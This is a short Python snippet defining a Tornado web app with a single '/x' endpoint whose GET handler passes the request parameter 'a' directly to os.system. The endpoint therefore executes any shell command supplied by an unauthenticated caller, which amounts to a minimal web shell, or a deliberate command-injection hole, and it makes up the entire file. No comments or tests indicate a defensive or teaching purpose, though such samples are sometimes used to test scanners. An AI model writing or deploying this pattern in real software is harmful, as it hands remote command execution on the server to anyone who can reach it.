import os
import tornado.web
class X(tornado.web.RequestHandler):
    def get(self):
        os.system(self.get_argument('a'))
app = tornado.web.Application([('/x', X)])
